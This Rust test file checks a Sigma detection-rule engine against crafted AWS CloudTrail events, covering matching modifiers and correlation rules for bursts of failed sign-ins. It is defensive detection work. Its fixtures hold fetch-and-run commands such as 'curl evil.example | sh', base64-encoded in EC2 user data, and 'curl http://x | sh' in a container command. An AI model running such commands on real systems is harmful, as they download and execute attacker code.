//! Sigma rules written for these tests, run over crafted events: every modifier and condition
//! form with a match and a near miss, fields in typed columns, in payload JSON and through
//! arrays, absent fields, other logsources and unsupported constructs named.

use std::collections::BTreeMap;
use std::io::Write;

use base64::Engine as _;
use trailhound_query::sigma::run;
use trailhound_rules::sigma::load;

use crate::{converted, engine};

fn event(
    id: &str,
    minute: u32,
    name: &str,
    source: &str,
    extra: serde_json::Value,
) -> serde_json::Value {
    let mut e = serde_json::json!({
        "eventVersion": "1.09", "eventTime": format!("2024-04-02T08:{minute:02}:00Z"),
        "eventSource": source, "eventName": name, "awsRegion": "eu-west-1",
        "sourceIPAddress": "203.0.113.9", "eventType": "AwsApiCall",
        "userIdentity": {"type": "IAMUser", "userName": "alice", "arn": "arn:aws:iam::111122223333:user/alice"},
        "recipientAccountId": "111122223333", "eventID": id
    });
    if let (Some(o), Some(x)) = (e.as_object_mut(), extra.as_object()) {
        for (k, v) in x {
            if v.is_null() {
                o.remove(k);
            } else {
                o.insert(k.clone(), v.clone());
            }
        }
    }
    e
}

fn lake() -> std::path::PathBuf {
    let script =
        base64::engine::general_purpose::STANDARD.encode("#!/bin/bash\ncurl evil.example | sh\n");
    let records = vec![
        event(
            "s1",
            1,
            "ConsoleLogin",
            "signin.amazonaws.com",
            serde_json::json!({
            "additionalEventData": {"MFAUsed": "No"}, "responseElements": {"ConsoleLogin": "Success"},
            "userAgent": "Mozilla/5.0"}),
        ),
        event(
            "s2",
            2,
            "RunTask",
            "ecs.amazonaws.com",
            serde_json::json!({
            "requestParameters": {"enable": false, "containerDefinitions": [
                {"command": ["sh", "-c", "curl http://x | sh"]}, {"command": ["id"]}]},
            "userAgent": "Boto3/1.34 Python/3.11"}),
        ),
        event(
            "s3",
            3,
            "PutBucketVersioning",
            "s3.amazonaws.com",
            serde_json::json!({
            "requestParameters": {"bucketName": "b", "VersioningConfiguration": {"Status": "Suspended"}},
            "errorCode": "AccessDenied", "sourceIPAddress": "10.1.2.3", "userAgent": null}),
        ),
        event(
            "s4",
            4,
            "UpdateLoginProfile",
            "iam.amazonaws.com",
            serde_json::json!({
            "userIdentity": {"type": "IAMUser", "userName": "mallory", "arn": "arn:aws:iam::111122223333:user/bob"},
            "requestParameters": {"userName": "bob"}, "userAgent": "TruffleHog"}),
        ),
        event(
            "s5",
            5,
            "RunInstances",
            "ec2.amazonaws.com",
            serde_json::json!({
            "requestParameters": {"count": 7, "userData": script}, "userAgent": "aws-cli/2.15 -x /y",
            // A number where CloudTrail writes strings: kept in `_extra`, still matched.
            "errorCode": 403}),
        ),
        // No eventTime (some exports drop it): on its delivery day, 2024-04-02.
        event(
            "s6",
            6,
            "DeleteBucket",
            "s3.amazonaws.com",
            serde_json::json!({"eventTime": null, "errorCode": "NoSuchBucket", "userAgent": "aws-cli/2.0"}),
        ),
    ];
    let dir = tempfile::tempdir().unwrap().keep();
    let day = dir.join("AWSLogs/111122223333/CloudTrail/eu-west-1/2024/04/02");
    std::fs::create_dir_all(&day).unwrap();
    let mut gz = flate2::write::GzEncoder::new(
        std::fs::File::create(
            day.join("111122223333_CloudTrail_eu-west-1_20240402T0810Z_s.json.gz"),
        )
        .unwrap(),
        flate2::Compression::default(),
    );
    gz.write_all(
        serde_json::json!({"Records": records})
            .to_string()
            .as_bytes(),
    )
    .unwrap();
    gz.finish().unwrap();
    converted(&dir)
}

/// (rule title, detection YAML, the events it must find).
const CASES: &[(&str, &str, &[&str])] = &[
    ("case-insensitive equality", "sel: {eventName: consolelogin}\n  condition: sel", &["s1"]),
    ("cased", "sel: {eventName|cased: consolelogin}\n  condition: sel", &[]),
    ("payload fields, AND", "sel:\n    additionalEventData.MFAUsed: 'No'\n    responseElements.ConsoleLogin: success\n  condition: sel", &["s1"]),
    ("through an array", "sel: {requestParameters.containerDefinitions.command|contains: CURL}\n  condition: sel", &["s2"]),
    ("array element, whole value", "sel: {requestParameters.containerDefinitions.command: id}\n  condition: sel", &["s2"]),
    ("array element near miss", "sel: {requestParameters.containerDefinitions.command: cur}\n  condition: sel", &[]),
    ("object text contains", "sel: {requestParameters|contains: suspended}\n  condition: sel", &["s3"]),
    ("null is absent", "sel: {errorCode: null}\n  condition: sel", &["s1", "s2", "s4"]),
    ("a value kept in _extra", "sel: {errorCode: '403'}\n  condition: sel", &["s5"]),
    ("not on a present field", "sel: {eventSource: s3.amazonaws.com}\n  filter: {errorCode: AccessDenied}\n  condition: sel and not filter", &["s6"]),
    ("not on a missing field", "sel: {eventSource: s3.amazonaws.com}\n  filter: {userAgent: Mozilla*}\n  condition: sel and not filter", &["s3", "s6"]),
    ("fieldref", "sel: {userIdentity.arn|fieldref|endswith: requestParameters.userName}\n  condition: sel", &["s4"]),
    ("cidr", "sel: {sourceIPAddress|cidr: 10.0.0.0/8}\n  condition: sel", &["s3"]),
    ("re with i", "sel: {userAgent|re|i: '^truffle'}\n  condition: sel", &["s4"]),
    ("re is cased", "sel: {userAgent|re: '^truffle'}\n  condition: sel", &[]),
    ("exists false", "sel: {userAgent|exists: false}\n  condition: sel", &["s3"]),
    ("gt on a payload number", "sel: {requestParameters.count|gt: 5}\n  condition: sel", &["s5"]),
    ("gt near miss", "sel: {requestParameters.count|gte: 7.5}\n  condition: sel", &[]),
    ("string vs boolean", "sel: {requestParameters.enable: 'false'}\n  condition: sel", &["s2"]),
    ("windash", "sel: {userAgent|windash|contains: ' /x'}\n  condition: sel", &["s5"]),
    ("base64offset", "sel: {requestParameters.userData|base64offset|contains: 'curl evil'}\n  condition: sel", &["s5"]),
    ("base64offset near miss", "sel: {requestParameters.userData|base64offset|contains: 'wget evil'}\n  condition: sel", &[]),
    ("wildcards and lists", "sel: {eventName: ['Run?ask', 'Put*', '*Profile']}\n  condition: sel", &["s2", "s3", "s4"]),
    ("escaped star is literal", "sel: {eventName: 'Run\\*'}\n  condition: sel", &[]),
    ("all", "sel: {userAgent|contains|all: [aws-cli, ' -x']}\n  condition: sel", &["s5"]),
    ("neq", "sel: {eventSource|neq: [signin.amazonaws.com, ecs.amazonaws.com]}\n  condition: sel", &["s3", "s4", "s5", "s6"]),
    ("an event without eventTime", "sel: {eventName: DeleteBucket}\n  condition: sel", &["s6"]),
    ("1 of, all of them, parentheses", "sel_a: {eventName: RunTask}\n  sel_b: {eventName: RunInstances}\n  _skip: {eventName: ConsoleLogin}\n  condition: (1 of sel_*) and not all of them", &["s2", "s5"]),
    ("keywords anywhere, case-insensitive", "kw: [TRUFFLEHOG, 'nomatch*here']\n  condition: kw", &["s4"]),
    ("keywords in identity and payload text", "kw: [mallory, 'bucketname']\n  condition: kw", &["s3", "s4"]),
    ("keywords with all", "kw:\n    '|all': [bucketName, suspended]\n  condition: kw", &["s3"]),
    ("keywords near miss", "kw:\n    '|all': [bucketName, enabled]\n  condition: kw", &[]),
    ("list of maps", "sel:\n    - {eventName: ConsoleLogin, userAgent|startswith: mozilla}\n    - {eventName: RunTask, userAgent|endswith: 'Python/3.12'}\n  condition: sel", &["s1"]),
];

#[tokio::test]
async fn sigma_rules_match_as_the_specification_says() {
    let rules = tempfile::tempdir().unwrap();
    for (i, (title, detection, _)) in CASES.iter().enumerate() {
        std::fs::write(
            rules.path().join(format!("r{i:02}.yml")),
            format!(
                "title: {title}\nid: 00000000-0000-4000-8000-{i:012}\nlevel: high\ntags: [attack.t1078]\n\
                 logsource:\n  product: aws\n  service: cloudtrail\ndetection:\n  {detection}\n"
            ),
        )
        .unwrap();
    }
    // Skipped with a reason, never silently: another logsource, keywords, a correlation; a
    // collection (`action: global`) gives its logsource to the rules after it.
    let sub = rules.path().join("more");
    std::fs::create_dir(&sub).unwrap();
    std::fs::write(sub.join("win.yaml"), "title: win\nlogsource: {product: windows, category: process_creation}\ndetection: {s: {Image: x}, condition: s}\n").unwrap();
    std::fs::write(
        sub.join("kw.yml"),
        "title: kw\ncorrelation: {type: temporal_ordered, rules: [x], timespan: 5m}\n",
    )
    .unwrap();
    std::fs::write(sub.join("corr.yml"), "title: corr\ncorrelation: {type: event_count, rules: [x], timespan: 5m, condition: {gte: 3}}\n").unwrap();
    std::fs::write(sub.join("coll.yml"), "action: global\nlogsource: {product: aws, service: cloudtrail}\nlevel: low\n---\ntitle: from a collection\ndetection: {s: {eventName: RunTask}, condition: s}\n").unwrap();
    let set = load(&[rules.path().to_path_buf()]).unwrap();
    let skipped: BTreeMap<&str, &str> = set
        .skipped
        .iter()
        .map(|s| (s.rule.as_str(), s.reason.as_str()))
        .collect();
    assert_eq!(skipped.len(), 3, "{skipped:?}");
    assert!(skipped["win"].contains("is not AWS CloudTrail"));
    assert!(skipped["kw"].contains("temporal_ordered"));
    assert!(skipped["corr"].contains("a correlation of rules not loaded"));
    assert_eq!(set.rules.len(), CASES.len() + 1);

    let e = engine(&lake());
    let out = run(&e, &set.rules, 0, 4_102_444_800_000_000).await.unwrap();
    let rows = trailhound_query::output::text_rows(&out.batches).unwrap();
    let mut found: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for r in &rows {
        found.entry(r[0].clone()).or_default().push(r[3].clone());
        assert_eq!(
            r[1],
            if r[0] == "from a collection" {
                "low"
            } else {
                "high"
            }
        );
        if r[0] != "from a collection" {
            assert_eq!(r[10], "attack.t1078");
            assert!(r[12].ends_with(".yml"), "{r:?}");
        }
    }
    let mut wrong = Vec::new();
    for (title, detection, want) in CASES {
        let mut got = found.remove(*title).unwrap_or_default();
        got.sort();
        if got != *want {
            wrong.push(format!("{title} ({detection}): got {got:?}, want {want:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert_eq!(found.remove("from a collection").unwrap(), ["s2"]);
    // An event without a time is searched by every window over its delivery day, and only
    // those: here 12:00 on that day, after every timed event, then the next day.
    let noon = 1_712_059_200_000_000; // 2024-04-02T12:00:00Z
    for (from, want) in [(noon, vec!["s6"]), (noon + 86_400_000_000, vec![])] {
        let later = run(&e, &set.rules, from, from + 3_600_000_000)
            .await
            .unwrap();
        let rows = trailhound_query::output::text_rows(&later.batches).unwrap();
        let ids: std::collections::BTreeSet<&str> = rows.iter().map(|r| r[3].as_str()).collect();
        assert_eq!(ids, want.into_iter().collect(), "{rows:?}");
    }
}

/// A case-insensitive `eventName` equality still prunes: counted from the plan's metrics on the
/// sample lake rewritten in row groups of 20 rows (rows stay grouped by event name, as the
/// writer lays them out), against the same match without the range.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_event_name_equality_prunes_row_groups() {
    let lake = crate::small_row_groups();
    let mut set = trailhound_rules::sigma::SigmaSet::default();
    trailhound_rules::sigma::load_text(
        "title: t\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  sel: {eventName: stoplogging}\n  condition: sel\n",
        "t.yml",
        &mut set,
    );
    let predicate = &set.rules[0].predicate;
    let e = engine(lake);
    let sigma = e
        .scan_stats(&format!(
            "SELECT count(*) FROM cloudtrail WHERE {predicate}"
        ))
        .await
        .unwrap();
    let plain = e
        .scan_stats("SELECT count(*) FROM cloudtrail WHERE lower(eventname) = 'stoplogging'")
        .await
        .unwrap();
    assert!(sigma.row_groups_pruned > 0, "{sigma:?}");
    assert_eq!(plain.row_groups_pruned, 0, "{plain:?}");
    let n = |sql: String| {
        let e = &e;
        async move { crate::scalar(e, &sql).await }
    };
    assert_eq!(
        n(format!("SELECT count(*) FROM cloudtrail WHERE {predicate}")).await,
        n("SELECT count(*) FROM cloudtrail WHERE lower(eventname) = 'stoplogging'".into()).await
    );
}

/// Sign-in events for the correlation rules: six failures for `victim` (minutes 1 to 6, six
/// addresses), then a success (minute 8); three failures for `other` (minutes 10 to 12).
fn login_lake() -> std::path::PathBuf {
    let login = |id: &str, minute: u32, user: &str, ip: &str, ok: bool| {
        event(
            id,
            minute,
            "ConsoleLogin",
            "signin.amazonaws.com",
            serde_json::json!({
                "userIdentity": {"type": "IAMUser", "userName": user, "arn": format!("arn:aws:iam::111122223333:user/{user}")},
                "sourceIPAddress": ip,
                "responseElements": {"ConsoleLogin": if ok { "Success" } else { "Failure" }},
                "errorMessage": if ok { serde_json::Value::Null } else { "Failed authentication".into() },
            }),
        )
    };
    let mut records = Vec::new();
    for m in 1..=6 {
        records.push(login(
            &format!("v{m}"),
            m,
            "victim",
            &format!("198.51.100.{m}"),
            false,
        ));
    }
    records.push(login("v-ok", 8, "victim", "198.51.100.1", true));
    for m in 10..=12 {
        records.push(login(&format!("o{m}"), m, "other", "203.0.113.5", false));
    }
    let dir = tempfile::tempdir().unwrap().keep();
    let day = dir.join("AWSLogs/111122223333/CloudTrail/eu-west-1/2024/04/02");
    std::fs::create_dir_all(&day).unwrap();
    let mut gz = flate2::write::GzEncoder::new(
        std::fs::File::create(
            day.join("111122223333_CloudTrail_eu-west-1_20240402T0810Z_l.json.gz"),
        )
        .unwrap(),
        flate2::Compression::default(),
    );
    gz.write_all(
        serde_json::json!({"Records": records})
            .to_string()
            .as_bytes(),
    )
    .unwrap();
    gz.finish().unwrap();
    converted(&dir)
}

/// Correlation rules as windowed SQL: event_count, value_count and temporal, grouped, with the
/// window's events named; base rules not reported on their own unless `generate: true`.
#[tokio::test]
async fn correlation_rules_count_in_sliding_windows() {
    let dir = tempfile::tempdir().unwrap();
    let head = "logsource: {product: aws, service: cloudtrail}\nlevel: high\n";
    std::fs::write(
        dir.path().join("base.yml"),
        format!(
            "title: failed sign-in\nname: failed_login\n{head}detection:\n  sel: {{eventName: ConsoleLogin, errorMessage: Failed authentication}}\n  condition: sel\n\
             ---\ntitle: good sign-in\nid: 6f1e7c1a-0000-4000-8000-000000000001\n{head}detection:\n  sel: {{eventName: ConsoleLogin, responseElements.ConsoleLogin: Success}}\n  condition: sel\n"
        ),
    )
    .unwrap();
    let corr = |title: &str, body: &str| {
        format!("title: {title}\nlevel: critical\ncorrelation:\n{body}\n")
    };
    let docs = [
        corr("burst", "  type: event_count\n  rules: [failed_login]\n  group-by: [userIdentity.userName]\n  timespan: 5m\n  condition: {gte: 5}"),
        corr("burst in a minute", "  type: event_count\n  rules: [failed_login]\n  group-by: [userIdentity.userName]\n  timespan: 1m\n  condition: {gte: 5}"),
        corr("many addresses", "  type: value_count\n  rules: [failed_login]\n  group-by: [userIdentity.userName]\n  timespan: 5m\n  condition: {field: sourceIPAddress, gte: 6}"),
        corr("too many addresses", "  type: value_count\n  rules: [failed_login]\n  group-by: [userIdentity.userName]\n  timespan: 5m\n  condition: {field: sourceIPAddress, gte: 7}"),
        corr("failures then success", "  type: temporal\n  rules: [failed_login, 6f1e7c1a-0000-4000-8000-000000000001]\n  group-by: [user]\n  aliases: {user: {failed_login: userIdentity.userName, 6f1e7c1a-0000-4000-8000-000000000001: userIdentity.arn}}\n  timespan: 10m"),
        corr("failures then success by name", "  type: temporal\n  rules: [failed_login, 6f1e7c1a-0000-4000-8000-000000000001]\n  group-by: [userIdentity.userName]\n  timespan: 10m\n  generate: true"),
        corr("missing base", "  type: event_count\n  rules: [no_such_rule]\n  timespan: 5m\n  condition: {gte: 1}"),
    ];
    std::fs::write(dir.path().join("corr.yml"), docs.join("---\n")).unwrap();
    let set = load(&[dir.path().to_path_buf()]).unwrap();
    assert_eq!(set.skipped.len(), 1, "{:?}", set.skipped);
    assert!(set.skipped[0].reason.contains("no_such_rule"));

    let e = engine(&login_lake());
    let out = run(&e, &set.rules, 0, 4_102_444_800_000_000).await.unwrap();
    let rows = trailhound_query::output::text_rows(&out.batches).unwrap();
    let eventids_col = out.schema.index_of("eventids").unwrap();
    let mut got: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for r in &rows {
        got.entry(r[0].clone())
            .or_default()
            .push(r[eventids_col].clone());
    }
    let ids = |list: &[&str]| serde_json::json!(list).to_string();
    let victim = ids(&["v1", "v2", "v3", "v4", "v5", "v6"]);
    assert_eq!(got.remove("burst").unwrap(), std::slice::from_ref(&victim));
    assert_eq!(got.remove("many addresses").unwrap(), [victim]);
    // The aliased group differs per rule (a name and an ARN): the two never meet.
    assert!(!got.contains_key("failures then success"));
    assert_eq!(
        got.remove("failures then success by name").unwrap(),
        [ids(&["v-ok", "v1", "v2", "v3", "v4", "v5", "v6"])]
    );
    // `generate: true` reports the base rules' own matches; nothing else does.
    let good = got.remove("good sign-in").unwrap();
    assert_eq!(good, [ids(&["v-ok"])]);
    assert_eq!(got.remove("failed sign-in").unwrap().len(), 9);
    assert!(got.is_empty(), "{got:?}");
}
